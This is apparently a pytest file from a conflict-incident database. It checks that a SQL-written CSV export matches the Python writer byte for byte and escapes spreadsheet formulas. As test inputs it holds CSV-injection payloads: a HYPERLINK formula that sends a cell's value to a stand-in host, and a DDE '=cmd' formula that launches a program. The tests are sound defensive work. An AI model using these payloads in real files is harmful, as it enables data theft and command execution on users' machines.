"""On PostgreSQL the CSV download's rows are written by SQL (incidents.csv_in_sql); they must be
the very bytes the Python writer (exports.stream_csv_rows) gives, on every kind of value a
download meets: formulas, numbers, quotes, commas, line breaks, accents, missing places,
actors, sources and figures, imported and edited incidents, in every order the list offers."""

import datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.urls import reverse

from incidents import csv_in_sql, exports
from incidents.choices import (
    ActorRole,
    ActorType,
    CasualtyGroup,
    DatePrecision,
    GeoPrecision,
    SourceScale,
)
from incidents.models import AdminArea, Incident, Tactic
from tests.factories import (
    ActorFactory,
    AdminAreaFactory,
    CasualtyFactory,
    CitationFactory,
    CountryFactory,
    IncidentActorFactory,
    IncidentFactory,
    LocationFactory,
    SourceFactory,
)

pytestmark = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="the SQL writer is PostgreSQL's"
)

# Text a download meets, each put in every text column below.
AWKWARD_TEXTS = [
    "Plain words",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+33 6 12",
    "-x",
    "@SUM(1)",
    "\tTabbed",
    "\rCarriage",
    "'=already escaped",
    "''+twice",
    "-4.5833",
    "+12",
    "1e5",
    "-5\n",
    "-٣",  # an Arabic-Indic digit is not a plain number for a spreadsheet
    "'quoted'",
    "comma, inside",
    'a "quoted" word',
    "two\nlines",
    "crlf\r\nline",
    "Ségou, Tombouctou, Ménaka",
    "",
]


def varied_incidents():
    """One incident per awkward text, spread over places with and without admin areas, two
    countries, every precision, with actors in every role, dated and undated citations, tactics
    and figures, some imported and some edited since."""
    niger = CountryFactory(iso3="NER", iso2="NE", name="Niger")
    nowhere = CountryFactory(iso3="XKX", iso2="XK", name="Kosovo, a code ISO does not assign")
    mopti = AdminAreaFactory(name="Mopti", iso_code="ML-5")
    djenne = AdminAreaFactory(
        name="Djenné", level=AdminArea.Level.ADMIN2, parent=mopti, iso_code=""
    )
    places = [
        LocationFactory(
            name="Kouakourou",
            latitude=Decimal("14.06670"),
            longitude=Decimal("-4.56670"),
            admin1=mopti,
            admin2=djenne,
        ),
        LocationFactory(name="Niamey", country=niger, admin1=None, latitude=Decimal("0.00000")),
        LocationFactory(name="=Formula place", country=nowhere, admin1=None),
    ]
    sources = [
        SourceFactory(name="Studio Tamani", scale=SourceScale.NATIONAL),
        SourceFactory(name="AFP, Paris", scale=SourceScale.INTERNATIONAL),
        SourceFactory(name="-Radio", scale=SourceScale.LOCAL),
        SourceFactory(name='Radio "Kledu"', scale=SourceScale.NATIONAL),
    ]
    tactics = list(Tactic.objects.order_by("id")[:3])
    precisions = list(DatePrecision)
    geo_precisions = list(GeoPrecision)
    roles = list(ActorRole)
    for number, text in enumerate(AWKWARD_TEXTS):
        # Event types whose disorder type is theirs, and sub-event types with their own.
        event_type, sub_event_type = [
            ("battles", "armed_clash"),
            ("riots", None),
            ("violence_against_civilians", "attack"),
            ("riots", "mob_violence"),
            ("protests", "excessive_force_against_protesters"),
        ][number % 5]
        incident = IncidentFactory(
            title=text,
            narrative=text,
            start_date=datetime.date(2020, 1, 1) + datetime.timedelta(days=37 * number),
            end_date=datetime.date(2024, 2, 29) if number % 3 == 0 else None,
            date_precision=precisions[number % len(precisions)],
            geo_precision=geo_precisions[number % len(geo_precisions)],
            location=places[number % len(places)],
            event_type_id=event_type,
            sub_event_type_id=sub_event_type,
            civilian_targeting=number % 2 == 0,
            acled_event_id=text[:30] if number % 4 == 1 else ("" if number % 2 else f"MLI{number}"),
            ucdp_id=str(number) if number % 5 == 0 else "",
            gtd_event_id=f"2015{number:08d}" if number % 7 == 0 else "",
            killed_low=number if number % 3 else None,
            killed_best=number * 2 if number % 4 else None,
            killed_high=number * 3,
            injured_best=0 if number % 2 else None,
            # What a dataset said that no field holds, in keys whose order differs by bytes,
            # characters and a language's collation (jsonb orders them by length in bytes,
            # then bytes); ACLED's own source scale on some (written while the incident is as
            # imported), which the dataset_fields cell leaves out.
            dataset_fields=[
                {},
                {"source_scale": text, "conflict_name": text},
                {"éé": text, "abc": "ü", "Zone": "", "\tTab": str(number), text + "k": text},
                {"source_scale": "New media-Local partner"},
            ][number % 4],
        )
        # Actors: none, one main actor, or several in every role, added out of role order.
        for position in range(number % 6):
            IncidentActorFactory(
                incident=incident,
                actor=ActorFactory(
                    name=f"{text} actor {position}"
                    if position % 2
                    else f"Group {number}.{position}",
                    actor_type=list(ActorType)[position % len(ActorType)],
                ),
                role=roles[(number + position) % len(roles)],
            )
        for position in range(number % 5):
            CitationFactory(
                incident=incident,
                source=sources[(number + position) % len(sources)],
                published_on=None if position == 1 else datetime.date(2024, 1, 10 - position),
            )
        incident.tactics.set(tactics[: number % 4])
        # Notes on the coded figures: none, one, or two groups with the same note and a third
        # with another (the cell has each note once).
        groups = list(CasualtyGroup)[: number % 4]
        for position, group in enumerate(groups):
            note = "" if number % 4 == 1 else (text if position < 2 else "Another note")
            CasualtyFactory(incident=incident, group=group, best=number, note=note)
        if number % 3 == 1:  # imported, then left alone: ACLED's own timestamp
            Incident.objects.filter(pk=incident.pk).update(
                imported_at=datetime.datetime(2030, 1, 1, tzinfo=datetime.UTC),
                source_updated_at=datetime.datetime(2024, 2, 1, 12, 0, 59, 999, datetime.UTC),
            )


ORDERS = {
    "newest first": {},
    "by place": {"sort": "place"},
    "most killed first": {"sort": "-killed"},
    "by type then killed": {"sort": "event_type,killed"},
}


@pytest.mark.parametrize("params", ORDERS.values(), ids=ORDERS.keys())
def test_sql_writer_gives_the_python_writers_bytes(client, db, monkeypatch, params):
    varied_incidents()
    monkeypatch.setattr(csv_in_sql, "CHUNK_SIZE", 4)  # several chunks, each in order
    response = client.get(reverse("incident_download", args=["csv"]), params)
    from_sql = b"".join(response.streaming_content)

    monkeypatch.setattr(csv_in_sql, "copy_csv_rows", exports.stream_csv_rows)
    response = client.get(reverse("incident_download", args=["csv"]), params)
    from_python = b"".join(response.streaming_content)

    assert from_sql.count(b"\r\n") > len(AWKWARD_TEXTS)  # every incident, header included
    assert from_sql.decode() == from_python.decode()


def test_sql_writer_neutralises_what_a_spreadsheet_would_run(client, db):
    IncidentFactory(title="=cmd|' /C calc'!A0", narrative="-2+3", acled_event_id="-12.5")
    text = b"".join(client.get(reverse("incident_download", args=["csv"])).streaming_content)
    row = text.decode().split("\r\n")[1]
    assert row.startswith("-12.5,")  # a number stays a number
    assert ",'-2+3," in row
    assert ",'=cmd|' /C calc'!A0," in row
